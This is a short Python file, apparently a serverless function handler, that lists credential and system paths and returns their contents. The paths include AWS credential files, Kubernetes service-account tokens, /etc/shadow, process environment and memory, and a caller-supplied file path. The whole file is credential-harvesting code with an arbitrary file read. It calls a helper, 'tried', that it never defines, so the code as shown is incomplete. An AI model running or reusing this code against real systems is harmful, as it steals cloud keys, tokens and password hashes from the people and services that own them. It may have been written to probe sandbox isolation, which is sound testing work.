"""Files in which credentials lie.

native: planted, expanded
"""
import os
import pathlib

PLACES = (
    "~/.aws/credentials", "~/.aws/config", "/root/.aws/credentials", "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/var/run/secrets/eks.amazonaws.com/serviceaccount/token", "/run/secrets/key", "/etc/shadow", "/proc/1/environ",
    "/var/task/settings.py", "/opt/guests/manifest.json", "/etc/hostname", "/proc/net/tcp", "/proc/self/maps",
    "/proc/self/cmdline", "/proc/self/mem", "/dev/mem", "/sys/class/dmi/id/product_uuid",
)


def handler(event, context):
    found = {place: tried(lambda place=place: pathlib.Path(os.path.expanduser(place)).read_bytes()[:50]) for place in PLACES}
    found["planted"] = tried(lambda: pathlib.Path(event["file"]).read_text())
    found["expanded"] = tried(lambda: pathlib.Path("~/.aws/credentials").expanduser().read_text())
    return found
